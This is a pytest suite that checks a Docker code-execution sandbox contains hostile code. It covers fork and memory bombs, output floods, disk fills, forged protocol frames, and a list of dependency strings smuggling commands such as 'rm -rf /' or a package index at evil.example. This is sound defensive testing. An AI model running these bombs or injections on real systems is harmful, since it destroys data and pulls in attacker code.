"""Hostile code and faults against the real engine (issue #5; docs/security.md).

Every test ends with the host process healthy, a clear result, and the session
either still usable or clearly reported gone. Numbers worth reporting (host memory
under an output flood, descriptors around the soak, how long an orphaned container
takes to vanish) are printed: run with ``-s`` to see them.
"""

from __future__ import annotations

import ast
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from codeexec import (
    ContainerSession,
    InvalidDependency,
    Limits,
    NoSuchSession,
    SessionBusy,
    list_sessions,
)
from codeexec.docker import Docker
from tests.conftest import RUN_ID, _session_containers, unique_name

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[2]
DOCKER = os.environ.get("CODEEXEC_DOCKER", "docker")
MiB = 2**20


# -- helpers ---------------------------------------------------------------------------


def _docker(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([DOCKER, *args], capture_output=True, text=True, timeout=timeout)


def _status_kib(field: str, pid: str = "self") -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/{pid}/status")


def _fd_count() -> int:
    return len(os.listdir("/proc/self/fd"))


def _python(script: str, *args: str, **kwargs: object) -> subprocess.Popen[str]:
    """Run ``script`` in a fresh interpreter that imports this checkout's codeexec."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(script), *args],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **kwargs,
    )


def _executor_address(session: ContainerSession) -> tuple[str, int]:
    out = _docker("port", session.container_id, "8888/tcp").stdout.split()
    assert out, "the executor port is not published"
    host, _, port = out[0].rpartition(":")
    return host, int(port)


def _supervisor_pid(session: ContainerSession) -> int:
    """The supervisor's pid from the handshake: it changes if the executor restarts."""
    session.close()  # reconnect, so the hello is fresh
    return int(session._channel_client().hello["pid"])


def _frame(obj: object) -> bytes:
    body = json.dumps(obj).encode()
    return struct.pack(">I", len(body)) + body


def _answer(sock: socket.socket, timeout: float = 15.0) -> tuple[dict[str, object] | None, bool]:
    """The last frame the executor sends back, and whether it then closed the connection."""
    sock.settimeout(timeout)
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
        closed = True
    except TimeoutError:
        closed = False
    except ConnectionResetError:
        closed = True
    frame = None
    while len(data) >= 4:
        (length,) = struct.unpack(">I", data[:4])
        frame = json.loads(data[4 : 4 + length])
        data = data[4 + length :]
    return frame, closed


# The tests marked GVISOR / GVISOR_FRESH (and the disk fill to ENOSPC) run twice: on
# the default runtime (runc) and under gVisor (`runtime="runsc"`, docs/configuration.md).
# The others run on runc only: under gVisor a memory or process bomb, or tmpfs pages
# past the memory limit, end the whole sandbox rather than the worker
# (tests/integration/test_gvisor.py asserts that instead); gVisor's /proc shows no
# NoNewPrivs and no cgroup v1 files (the confinement test reads both); killing the
# container or its PID 1 from outside is docker's handling, not the runtime's; and
# the refused options, the soak and the idle timeout are codeexec's own logic.
GVISOR = pytest.mark.parametrize("shared", ["runc", "runsc"], indirect=True)
GVISOR_FRESH = pytest.mark.parametrize("fresh", ["runc", "runsc"], indirect=True)


def _runtime(request: pytest.FixtureRequest) -> str | None:
    runtime = getattr(request, "param", "runc")
    return None if runtime == "runc" else str(runtime)


@pytest.fixture
def fresh(docker_engine: None, request: pytest.FixtureRequest) -> Iterator[ContainerSession]:
    """A session of its own, for tests that break things (256 MiB, 128 processes)."""
    runtime = _runtime(request)
    with ContainerSession.start(unique_name(), memory="256m", pids=128, runtime=runtime) as s:
        yield s


@pytest.fixture(scope="module")
def shared(docker_engine: None, request: pytest.FixtureRequest) -> Iterator[ContainerSession]:
    runtime = _runtime(request)
    with ContainerSession.start(f"m{RUN_ID}-hostile-{runtime or 'runc'}", runtime=runtime) as s:
        yield s


# -- runaway code ----------------------------------------------------------------------


@GVISOR
def test_infinite_loop_times_out_and_keeps_namespace(shared: ContainerSession) -> None:
    shared.execute("kept = 41")
    r = shared.execute("while True:\n    pass", timeout=1)
    assert r.status == "timeout" and not r.restarted, r
    assert r.error is not None and "timed out after 1 s" in r.error.evalue
    assert shared.execute("kept + 1").value == "42"


@pytest.mark.parametrize(
    "code",
    [
        # Python code that swallows SIGINT.
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        # One call into C that never checks for signals. (re's backtracking does
        # check them, so it is interrupted like pure Python code.)
        "sum(range(10**13))",
    ],
    ids=["sigint-ignored", "c-level-loop"],
)
@GVISOR_FRESH
def test_code_that_blocks_the_interrupt_restarts_executor(
    fresh: ContainerSession, code: str
) -> None:
    fresh.execute("lost = 1")
    started = time.monotonic()
    r = fresh.execute(code, timeout=1)
    elapsed = time.monotonic() - started
    assert r.status == "timeout" and r.restarted, r
    assert r.error is not None and r.error.ename == "ExecutorRestarted"
    assert "variables and imports are lost" in r.error.evalue
    assert elapsed < 1 + 2 + 3  # timeout + interrupt grace + restart, no hang
    assert fresh.execute("'lost' in dir()").value == "False"
    assert fresh.execute("6 * 7").value == "42"


def test_memory_bomb_is_stopped_by_the_container_limit(fresh: ContainerSession) -> None:
    pid_before = _supervisor_pid(fresh)
    rss_before = _status_kib("VmRSS")
    fresh.execute("kept = 1")
    r = fresh.execute("hog = []\nwhile True:\n    hog.append(b'x' * 10**7)", timeout=60)
    assert r.status == "error" and r.restarted, r
    assert r.error is not None and r.error.ename == "ExecutorDied"
    assert "memory" in r.error.evalue and "SIGKILL" in r.error.evalue
    assert fresh.execute("'kept' in dir()").value == "False"
    peak = fresh.execute("int(open('/sys/fs/cgroup/memory/memory.max_usage_in_bytes').read())")
    assert peak.ok and int(peak.value or 0) <= 256 * MiB, peak
    assert _supervisor_pid(fresh) == pid_before and fresh.is_running()
    assert _status_kib("VmRSS") - rss_before < 20 * 1024  # the host never saw the bytes


def test_memory_bomb_in_a_child_process_kills_the_child_only(fresh: ContainerSession) -> None:
    fresh.execute("kept = 1")
    r = fresh.execute(
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-c',"
        " 'h = []\\nwhile True: h.append(b\"x\" * 10**7)']).returncode",
        timeout=60,
    )
    assert r.ok and r.value == "-9", r  # SIGKILL from the OOM killer
    assert fresh.execute("kept").value == "1"  # the worker survived


def test_fork_bomb_is_stopped_by_the_pids_limit(fresh: ContainerSession) -> None:
    fresh.execute("kept = 'still here'")
    r = fresh.execute("import os\nwhile True:\n    os.fork()", timeout=30)
    assert r.status == "error" and not r.restarted, r
    assert r.error is not None and r.error.ename == "BlockingIOError"
    assert "Resource temporarily unavailable" in r.error.evalue
    # The forked copies of the worker end instead of answering on its behalf:
    # every later result belongs to its own execution.
    for i in range(20):
        assert fresh.execute(f"{i} * 2").value == str(i * 2)
    assert fresh.execute("kept").value == "'still here'"
    _wait_for_processes(fresh, at_most=4)
    spawn = fresh.execute("import subprocess\nsubprocess.run(['true']).returncode")
    assert spawn.value == "0", spawn
    assert subprocess.run(["true"]).returncode == 0  # the host can still fork


@pytest.mark.parametrize(
    "code",
    [
        "import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n"
        "            time.sleep(1000)\n        n += 1\nexcept OSError as e:\n    print(n, e)",
        "import subprocess\nkeep = []\ntry:\n    while True:\n"
        "        keep.append(subprocess.Popen(['sleep', '1000']))\nexcept OSError as e:\n"
        "    print(len(keep), e)",
    ],
    ids=["fork-loop", "spawn-loop"],
)
def test_process_loop_hits_pids_limit_and_reset_recovers(
    fresh: ContainerSession, code: str
) -> None:
    r = fresh.execute(code, timeout=30)
    assert r.ok, r
    count, message = r.stdout.split(" ", 1)
    assert 50 < int(count) < 128 and "Resource temporarily unavailable" in message
    assert fresh.execute("2 + 2").value == "4"  # Python itself still runs
    # The children live on (they may be wanted); reset() ends them with the worker.
    fresh.reset()
    spawn = fresh.execute("import subprocess\nsubprocess.run(['true']).returncode")
    assert spawn.value == "0", spawn
    assert subprocess.run(["true"]).returncode == 0


def _wait_for_processes(session: ContainerSession, at_most: int, within: float = 10) -> None:
    deadline = time.monotonic() + within
    count = "?"
    while time.monotonic() < deadline:
        count = session.execute("import os\nsum(p.isdigit() for p in os.listdir('/proc'))").value
        if count is not None and int(count) <= at_most:
            return
        time.sleep(0.1)
    raise AssertionError(f"{count} processes still run in the container")


# -- output and disk -------------------------------------------------------------------


@pytest.mark.slow
@GVISOR
def test_output_flood_is_truncated_and_host_memory_stays_bounded(shared: ContainerSession) -> None:
    cap = 8 * MiB
    child = _python(
        """
        import json, sys, time
        from codeexec import ContainerSession
        def kib(field):
            for line in open('/proc/self/status'):
                if line.startswith(field + ':'):
                    return int(line.split()[1])
        s = ContainerSession.attach(sys.argv[1], output_limit=int(sys.argv[2]))
        s.execute('1')
        before = kib('VmRSS')
        received = 0
        def count(name, text):
            global received
            received += len(text)
        t = time.monotonic()
        r = s.execute("import sys\\nchunk = 'x' * 2**20\\n"
                      "for _ in range(1024):\\n    sys.stdout.write(chunk)\\n'done'",
                      timeout=300, on_output=count)
        print(json.dumps({"before_kib": before, "peak_kib": kib('VmHWM'),
                          "seconds": time.monotonic() - t, "status": r.status,
                          "value": r.value, "truncated": r.truncated,
                          "stdout_len": len(r.stdout), "tail": r.stdout[-80:],
                          "received": received}))
        s.close()
        """,
        shared.name,
        str(cap),
    )
    out, err = child.communicate(timeout=300)
    assert child.returncode == 0, err
    m = json.loads(out)
    growth = (m["peak_kib"] - m["before_kib"]) / 1024
    print(
        f"\n1 GiB flood: host RSS {m['before_kib'] / 1024:.0f} MiB -> peak "
        f"{m['peak_kib'] / 1024:.0f} MiB (+{growth:.0f} MiB), {m['seconds']:.1f} s"
    )
    assert m["status"] == "ok" and m["value"] == "'done'" and m["truncated"], m
    assert cap <= m["stdout_len"] <= cap + 200
    assert "[codeexec: output truncated after 8388608 bytes]" in m["tail"]
    assert m["received"] <= cap + 200  # cut in the container, not on the host
    assert growth < 100, f"the host process grew by {growth:.0f} MiB"
    assert shared.execute("'usable'").value == "'usable'"


_FILL = """\
def fill(path):
    import errno, os
    n = 0
    chunk = b'x' * 2**20
    try:
        with open(path, 'wb') as f:
            while True:
                f.write(chunk)
                f.flush()
                n += 1
    except OSError as e:
        return n, errno.errorcode[e.errno]
    finally:
        try:
            os.remove(path)
        except OSError:
            pass
"""


@pytest.mark.parametrize("runtime", [None, "runsc"], ids=["runc", "runsc"])
def test_disk_fill_ends_in_enospc_inside_the_container(
    session_name: str, runtime: str | None
) -> None:
    limits = Limits(memory="256m", tmp_size="64m", workspace_size="48m")
    with ContainerSession.start(session_name, limits=limits, runtime=runtime) as s:
        assert s.execute(_FILL).ok
        for path, size in (("/tmp/fill", 64), ("/workspace/fill", 48)):
            r = s.execute(f"fill({path!r})", timeout=60)
            assert r.ok, r
            assert r.value == f"({size - 1}, 'ENOSPC')" or r.value == f"({size}, 'ENOSPC')", r
        assert s.execute("'usable'").value == "'usable'"


def test_disk_fill_past_the_memory_limit_kills_the_worker_not_the_session(
    session_name: str,
) -> None:
    # tmpfs pages count against the memory limit: with /tmp + /workspace larger
    # than it, filling both reaches the limit before ENOSPC. The kernel must then
    # kill the worker (oom_score_adj 1000), never the supervisor.
    limits = Limits(memory="256m", tmp_size="200m", workspace_size="200m")
    with ContainerSession.start(session_name, limits=limits) as s:
        pid = _supervisor_pid(s)
        r = s.execute(
            "chunk = b'x' * 2**20\nfor path in ('/tmp/a', '/workspace/b'):\n"
            "    with open(path, 'wb') as f:\n"
            "        for _ in range(200):\n            f.write(chunk)",
            timeout=60,
        )
        assert r.status == "error" and r.restarted, r
        assert r.error is not None and "memory" in r.error.evalue
        assert _supervisor_pid(s) == pid and s.is_running()
        r = s.execute("import os\nos.remove('/tmp/a'); os.remove('/workspace/b')\n'freed'")
        assert r.value == "'freed'", r


# -- the executor dies -----------------------------------------------------------------


@GVISOR
@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("import os\nos._exit(1)", "exited with code 1"),
        ("import os\nos.kill(os.getpid(), 9)", "SIGKILL"),
        ("import ctypes\nctypes.string_at(0)", "segmentation fault"),
    ],
    ids=["os-exit", "sigkill", "segfault"],
)
def test_executor_death_is_reported_and_the_next_execute_works(
    shared: ContainerSession, code: str, why: str
) -> None:
    shared.execute("doomed = 1")
    r = shared.execute(code, timeout=30)
    assert r.status == "error" and r.restarted, r
    assert r.error is not None and r.error.ename == "ExecutorDied"
    assert why in r.error.evalue and "all variables and imports are lost" in r.error.evalue
    after = shared.execute("'doomed' in dir(), 1 + 1")
    assert after.ok and after.value == "(False, 2)" and not after.restarted, after


@pytest.mark.parametrize("how", [["kill"], ["rm", "--force"]], ids=["kill", "rm"])
def test_container_killed_from_outside_is_reported_gone(session_name: str, how: list[str]) -> None:
    s = ContainerSession.start(session_name)
    try:
        assert s.execute("1").ok
        assert _docker(*how, s.container_id).returncode == 0
        with pytest.raises(NoSuchSession, match="is gone"):
            s.execute("1")
        with pytest.raises(NoSuchSession):
            s.execute("1")  # and stays so
        with pytest.raises(NoSuchSession):
            ContainerSession.attach(session_name)
        deadline = time.monotonic() + 15
        while any(i.name == session_name for i in list_sessions()):
            assert time.monotonic() < deadline, "list_sessions still shows the session"
            time.sleep(0.1)
        assert not s.is_running()
    finally:
        s.stop()  # a gone container is not an error


def test_code_that_kills_the_supervisor_ends_the_session_clearly(session_name: str) -> None:
    # Code runs as the supervisor's user, so it can end its own session (SIGKILL to
    # PID 1 is dropped, SIGTERM ends it: test_trust_lifetime.py); the caller must
    # learn that the session is gone, not that "a connection was lost".
    with ContainerSession.start(session_name) as s:
        with pytest.raises(NoSuchSession, match="is gone"):
            s.execute(
                "import os, signal, time\nos.kill(os.getppid(), signal.SIGTERM)\ntime.sleep(60)"
            )
        with pytest.raises(NoSuchSession):
            s.execute("1")


# -- the channel -----------------------------------------------------------------------


_HELLO = {"op": "hello", "protocol": 2, "nonce": "A" * 43 + "="}  # 32 zero bytes


@GVISOR
def test_network_abuse_of_the_channel_is_refused(shared: ContainerSession) -> None:
    host, port = _executor_address(shared)
    hostile: dict[str, bytes] = {
        "exec-without-hello": _frame({"op": "exec", "id": "x", "code": "print('pwned')"}),
        "auth-without-hello": _frame({"op": "auth", "proof": "A" * 43 + "="}),
        "wrong-proof": _frame(_HELLO) + _frame({"op": "auth", "proof": "A" * 43 + "="}),
        "hello-then-exec": _frame(_HELLO) + _frame({"op": "exec", "id": "x", "code": "1"}),
        "v1-hello-with-a-token": _frame({"op": "hello", "token": "0" * 64, "protocol": 1}),
        "http-garbage": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        "bad-json": struct.pack(">I", 15) + b"\x00\xff not json \x01\x02\x03",
        "4-gib-length": b"\xff\xff\xff\xff" + b"A" * 1024,
        "1-mib-hello": struct.pack(">I", MiB) + b"{" * 4096,
        "half-frame": struct.pack(">I", 100) + b'{"op": "he',
        "silent": b"",
    }
    socks = {}
    for name, payload in hostile.items():
        sock = socket.create_connection((host, port), timeout=5)
        sock.sendall(payload)
        socks[name] = sock
    try:
        # The real client works while all of them are connected...
        for i in range(5):
            assert shared.execute(f"{i} + 1").value == str(i + 1)
        expected = {
            "http-garbage": "too_large",
            "4-gib-length": "too_large",
            "1-mib-hello": "too_large",
            "bad-json": "bad_frame",
            "v1-hello-with-a-token": "protocol_mismatch",
        }
        for name, sock in socks.items():
            frame, closed = _answer(sock)
            assert frame is not None and frame["type"] == "error", (name, frame)
            assert frame["code"] == expected.get(name, "unauthorized"), (name, frame)
            assert closed, f"{name}: the executor kept the connection open"
    finally:
        for sock in socks.values():
            sock.close()
    # ...and after: nothing they sent ran.
    r = shared.execute("'still fine'")
    assert r.value == "'still fine'" and "pwned" not in r.stdout


@GVISOR
def test_connection_flood_does_not_block_the_client(shared: ContainerSession) -> None:
    host, port = _executor_address(shared)
    socks = [socket.create_connection((host, port), timeout=5) for _ in range(100)]
    try:
        started = time.monotonic()
        assert shared.execute("sum(range(100))").value == "4950"
        assert time.monotonic() - started < 2
    finally:
        for sock in socks:
            sock.close()


@GVISOR
def test_published_port_is_bound_to_loopback_only(shared: ContainerSession) -> None:
    host, _ = _executor_address(shared)
    assert host == "127.0.0.1"
    data = json.loads(_docker("container", "inspect", shared.container_id).stdout)[0]
    bindings = data["HostConfig"]["PortBindings"]["8888/tcp"]
    assert [b["HostIp"] for b in bindings] == ["127.0.0.1"]
    published = data["NetworkSettings"]["Ports"]["8888/tcp"]
    assert {b["HostIp"] for b in published} == {"127.0.0.1"}


_NEIGHBOUR = """
import json, socket, struct, sys

def frame(obj):
    body = json.dumps(obj).encode()
    return struct.pack('>I', len(body)) + body

def answer(payload):  # the last frame the executor sends before it closes
    s = socket.create_connection((sys.argv[1], 8888), timeout=10)
    s.sendall(payload)
    data = b''
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    while data:
        n, = struct.unpack('>I', data[:4])
        last, data = json.loads(data[4:4 + n]), data[4 + n:]
    return last

hello = frame({'op': 'hello', 'protocol': 2, 'nonce': 'A' * 43 + '='})
print(json.dumps({
    'wrong_proof': answer(hello + frame({'op': 'auth', 'proof': 'A' * 43 + '='})),
    'exec_without_hello': answer(frame({'op': 'exec', 'id': 'x', 'code': 'print(1)'})),
}))
"""


@GVISOR
def test_another_container_on_the_bridge_cannot_run_code(shared: ContainerSession) -> None:
    data = json.loads(_docker("container", "inspect", shared.container_id).stdout)[0]
    ip = data["NetworkSettings"]["Networks"]["bridge"]["IPAddress"]
    assert ip
    base = os.environ.get("CODEEXEC_BASE_IMAGE", "codeexec-base:bookworm")
    name = f"t{RUN_ID}-neighbour"
    try:
        proc = _docker(
            "run",
            "--rm",
            "--name",
            name,
            "--network",
            "bridge",
            "--user",
            "10001",
            "--cap-drop",
            "ALL",
            base,
            "python3",
            "-c",
            _NEIGHBOUR,
            ip,
            timeout=60,
        )
    finally:
        _docker("rm", "--force", name)
    assert proc.returncode == 0, proc.stderr
    answers = json.loads(proc.stdout)
    assert answers["wrong_proof"]["code"] == "unauthorized", answers
    assert answers["exec_without_hello"]["code"] == "unauthorized", answers
    assert shared.execute("'unharmed'").value == "'unharmed'"


@GVISOR
def test_two_threads_and_two_processes_cannot_interleave(shared: ContainerSession) -> None:
    started = threading.Event()
    results = []

    def first() -> None:
        results.append(
            shared.execute(
                "import time\nprint('A1', flush=True)\ntime.sleep(4)\nprint('A2')\n'A'",
                on_output=lambda name, text: started.set(),
            )
        )

    thread = threading.Thread(target=first)
    thread.start()
    try:
        assert started.wait(10)
        # Same session object, another thread: refused at once.
        with pytest.raises(SessionBusy):
            shared.execute("print('B')")
        # Another process that attaches: refused by the executor.
        child = _python(
            """
            import sys
            from codeexec import ContainerSession, SessionBusy
            s = ContainerSession.attach(sys.argv[1])
            try:
                s.execute("print('C')")
                print('ran')
            except SessionBusy as exc:
                print('busy:', exc)
            s.close()
            """,
            shared.name,
        )
        out, err = child.communicate(timeout=60)
        assert out.startswith("busy:"), (out, err)
    finally:
        thread.join(30)
    (r,) = results
    assert r.ok and r.value == "'A'" and r.stdout == "A1\nA2\n", r


# -- inside the container --------------------------------------------------------------


_INSIDE = """\
import errno, json, os
status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines())
def write(path):
    try:
        with open(path, 'w') as f:
            f.write('x')
        return 'written'
    except OSError as e:
        return errno.errorcode[e.errno]
def size(path):
    st = os.statvfs(path)
    return st.f_blocks * st.f_frsize
json.dumps({
    'uid': os.getuid(), 'euid': os.geteuid(), 'gid': os.getgid(),
    'cap_eff': status['CapEff'].strip(), 'cap_prm': status['CapPrm'].strip(),
    'cap_bnd': status['CapBnd'].strip(), 'no_new_privs': status['NoNewPrivs'].strip(),
    'usr': write('/usr/evil'), 'etc': write('/etc/passwd'), 'root': write('/evil'),
    'tmp': size('/tmp'), 'workspace': size('/workspace'), 'cwd': os.getcwd(),
    'token_in_env': any('CODEEXEC_TOKEN' in k for k in os.environ),
})
"""


def test_inside_the_container_code_is_unprivileged_and_confined(shared: ContainerSession) -> None:
    r = shared.execute(_INSIDE)
    assert r.ok, r
    facts = json.loads(ast.literal_eval(r.value or "None"))
    assert facts["uid"] == facts["euid"] == facts["gid"] == 10001
    assert facts["cap_eff"] == facts["cap_prm"] == facts["cap_bnd"] == "0000000000000000"
    assert facts["no_new_privs"] == "1"
    assert facts["usr"] == facts["etc"] == facts["root"] == "EROFS"
    assert facts["tmp"] == facts["workspace"] == 512 * MiB  # Limits() defaults
    assert facts["cwd"] == "/workspace"
    assert facts["token_in_env"] is False
    data = json.loads(_docker("container", "inspect", shared.container_id).stdout)[0]
    host_config = data["HostConfig"]
    assert host_config["CapDrop"] == ["ALL"] and host_config["ReadonlyRootfs"] is True
    assert "no-new-privileges" in host_config["SecurityOpt"]
    assert host_config["Memory"] == 1024 * MiB and host_config["PidsLimit"] == 256
    assert host_config["Privileged"] is False and data["Config"]["User"] == "10001:10001"


# -- dependency strings ----------------------------------------------------------------


_INJECTIONS = [
    "numpy; rm -rf /",
    "numpy && rm -rf /",
    "numpy | sh",
    "numpy`id`",
    "numpy$(id)",
    "--index-url http://evil.example/simple",
    "--extra-index-url=http://evil.example/simple",
    "-e .",
    "-r /etc/passwd",
    "numpy\n--index-url http://evil.example/simple",
    "numpy\r\n-e .",
    "numpy\x00",
    "./local/path",
    "/abs/path",
    "git+https://github.com/example/evil.git",
    "evil @ git+https://github.com/example/evil.git",
    "evil @ https://evil.example/evil.whl",
    "evil @ file:///etc/passwd",
    "",
]


@pytest.mark.parametrize("spec", _INJECTIONS)
def test_dependency_injection_is_refused_before_docker_runs(spec: str, session_name: str) -> None:
    # A docker CLI that does not exist: touching docker would raise DockerNotAvailable.
    missing = Docker(binary="/nonexistent/codeexec-test-docker")
    with pytest.raises(InvalidDependency):
        ContainerSession.start(session_name, dependencies=["requests", spec], docker=missing)


def test_requirements_file_options_are_refused(tmp_path: Path, session_name: str) -> None:
    req = tmp_path / "requirements.txt"
    req.write_text("requests\n--index-url http://evil.example/simple\n")
    missing = Docker(binary="/nonexistent/codeexec-test-docker")
    with pytest.raises(InvalidDependency, match="pip option"):
        ContainerSession.start(session_name, requirements_file=str(req), docker=missing)


def test_runtime_install_refuses_injection_before_running(shared: ContainerSession) -> None:
    for spec in ("numpy; rm -rf /", "--index-url http://evil.example/simple", "-e ."):
        with pytest.raises(InvalidDependency):
            shared.install([spec])
    with pytest.raises(InvalidDependency):
        shared.install(["git+https://github.com/example/evil.git"])


# -- leaks and orphans -----------------------------------------------------------------


@pytest.mark.slow
def test_soak_no_fd_or_memory_growth_and_no_containers_left(docker_engine: None) -> None:
    prefix = f"t{RUN_ID}-soak"
    with ContainerSession.start(unique_name()) as s:
        for i in range(50):  # warm-up: caches, lazily imported modules
            s.execute(f"x = {i}\nprint(x)")
        fds, rss = _fd_count(), _status_kib("VmRSS")
        started = time.monotonic()
        for i in range(1000):
            r = s.execute(f"x = {i}\nprint(x)\nx")
            assert r.value == str(i) and r.stdout == f"{i}\n"
        exec_seconds = time.monotonic() - started
        fds_after, rss_after = _fd_count(), _status_kib("VmRSS")
    print(
        f"\n1000 executions: {exec_seconds:.1f} s, fds {fds} -> {fds_after}, "
        f"RSS {rss / 1024:.1f} -> {rss_after / 1024:.1f} MiB"
    )
    assert fds_after == fds
    assert rss_after - rss < 10 * 1024

    fds, rss = _fd_count(), _status_kib("VmRSS")
    started = time.monotonic()
    for i in range(100):
        with ContainerSession.start(f"{prefix}-{i}", idle_timeout=120) as s:
            assert s.execute("1 + 1").value == "2"
    cycle_seconds = time.monotonic() - started
    fds_after, rss_after = _fd_count(), _status_kib("VmRSS")
    print(
        f"100 start/stop cycles: {cycle_seconds:.1f} s, fds {fds} -> {fds_after}, "
        f"RSS {rss / 1024:.1f} -> {rss_after / 1024:.1f} MiB"
    )
    assert fds_after == fds
    assert rss_after - rss < 10 * 1024
    assert not _session_containers(prefix)


@pytest.mark.slow
def test_orphaned_session_vanishes_after_its_idle_timeout(session_name: str) -> None:
    child = _python(
        """
        import sys, time
        from codeexec import ContainerSession
        s = ContainerSession.start(sys.argv[1], idle_timeout=3)
        s.execute("x = 1")
        print(s.container_id, flush=True)
        time.sleep(600)
        """,
        session_name,
    )
    try:
        assert child.stdout is not None
        container_id = child.stdout.readline().strip()
        assert container_id, child.stderr.read() if child.stderr else ""
    finally:
        child.send_signal(signal.SIGKILL)  # no cleanup of any kind runs
        child.communicate(timeout=30)
    killed = time.monotonic()
    deadline = killed + 30
    while _docker("ps", "--all", "--quiet", "--filter", f"id={container_id}").stdout.strip():
        assert time.monotonic() < deadline, "the orphaned container is still there"
        time.sleep(0.2)
    print(
        f"\norphaned container gone {time.monotonic() - killed:.1f} s after SIGKILL "
        "(idle timeout 3 s)"
    )
    assert not any(i.name == session_name for i in list_sessions())
